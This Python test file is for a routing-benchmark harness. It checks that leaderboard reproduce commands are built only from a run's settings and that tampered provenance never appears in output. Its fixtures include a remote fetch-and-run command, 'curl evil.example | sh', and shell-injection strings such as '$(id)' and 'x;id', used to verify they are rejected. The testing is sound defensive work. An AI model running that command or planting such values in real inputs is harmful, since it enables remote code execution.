"""Commands on the board: made from a run's settings, never an entry's words."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import CliRunner

from harness.board import write_board
from harness.board.reproduce import command_of
from harness.cli import app
from harness.plugins import complete_arguments
from harness.registry import routers, tasks
from harness.suite import load_suite, parse_router, with_changes
from harness.traces.contamination import write_seen
from harness.traces.pack import pack_run
from tests.harness.board.builders import Play, Run, meta_of, write_run

ARGS = {key: value for key, value in complete_arguments(tasks, "alfworld", {}).items() if key not in ("data", "split")}
EVIL = "curl evil.example | sh"
DRAWN = Run("random", {"a": Play("hl")}, label="random(p=0.3)", args={"p": 0.3})
DRAWN = replace(DRAWN, config={"task": "alfworld", "task_args": ARGS, "pool": "smollm2"})


def command(run: Run, pool: str = "smollm2") -> str:
    meta = meta_of(run)
    return command_of(meta.__class__(**{**{f: getattr(meta, f) for f in meta.__struct_fields__}, "pool": pool}))


def test_a_planned_run_is_an_entry_of_its_suite() -> None:
    assert command(DRAWN) == "mixroute run dmr-alfworld --only alfworld --only 'random(p=0.3)'"
    assert command(replace(DRAWN, seed=7)) == command(DRAWN)  # the suite plays ten seeds
    assert command(DRAWN, pool="arith-none") == ""  # a pool of which nothing is known
    assert command(DRAWN, pool="qwen3") == f"{command(DRAWN)} --pool qwen3"
    fast = replace(DRAWN, config={**DRAWN.config, "mode": "throughput"})
    assert command(fast) == f"{command(DRAWN)} --mode throughput"


@pytest.mark.parametrize(
    ("changes", "options"),
    [
        ({"args": {"p": 0.25}}, "--router random,p=0.25"),
        ({"args": {"p": 0.3}, "seed": 40}, "--router random,p=0.3 --seed 40"),
        ({"limit": 9}, "--router random,p=0.3 --limit 9"),
        ({"router": "uncertainty", "args": complete_arguments(routers, "uncertainty", {"target_share": 0.25})}, None),
        ({"router": "mine.py:LastK", "args": {"k": 3, "names": ["a"]}}, None),
    ],
)
def test_any_other_run_is_a_router_on_the_task_of_a_suite(changes: dict[str, object], options: str | None) -> None:
    """The command says again what the run was, to the last argument."""
    run = replace(DRAWN, **changes)  # type: ignore[arg-type]
    words = shlex.split(command(run))
    assert words[:5] == ["mixroute", "run", "dmr-alfworld", "--only", "alfworld"]
    assert options is None or " ".join(words[5:]) == options
    entry = parse_router(words[words.index("--router") + 1])
    assert (entry.router, entry.args) == (run.router, run.args)
    chosen = with_changes(load_suite(words[2]), routers=[words[6]], only=[words[4]])
    assert [task.task for task in chosen.tasks] == ["alfworld"]


@pytest.mark.parametrize(
    "changes",
    [
        {"router": EVIL},
        {"router": "x;id"},
        {"router": "x\nid"},
        {"args": {"p": EVIL}},
        {"args": {EVIL: 1}},
        {"args": {"p": "$(id)"}},
        {"args": {"p": ["a", "b"]}},  # a comma ends an argument
        {"args": {"p": "1"}},  # would be read as a number
        {"limit": EVIL},
        {"config": {**DRAWN.config, "temperature": 0.5}},
        {"config": {**DRAWN.config, "mode": EVIL}},
        {"config": {**DRAWN.config, "task": EVIL}},
        {"config": {**DRAWN.config, "task_args": {**ARGS, "step_cap": 9}}},
    ],
)
def test_what_cannot_be_said_plainly_is_no_command(changes: dict[str, object]) -> None:
    assert command(replace(DRAWN, **changes)) == ""  # type: ignore[arg-type]


def test_what_an_entry_says_of_its_command_is_shown_nowhere(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "runs" / "evil", DRAWN)
    write_seen(folder, [])
    entry = pack_run(folder, tmp_path / "entries")
    run = json.loads((entry / "run.json").read_text())
    run["provenance"] = {
        "command": EVIL,
        "git": {"commit": EVIL, "dirty": True},
        "time": EVIL,
        "hardware": {"cpu": EVIL},
    }
    (entry / "run.json").write_text(json.dumps(run))
    board = write_board([entry], tmp_path / "out", traces=True)
    assert board.rows[0].entry[0].commit == ""
    written = [path for path in (tmp_path / "out").rglob("*") if path.is_file()]
    assert len(written) > 6
    for path in written:
        assert b"evil.example" not in path.read_bytes(), path
    shown = CliRunner().invoke(app, ["show", "a", "--runs", str(tmp_path / "entries")])
    assert shown.exit_code == 0
    assert "evil.example" not in shown.output
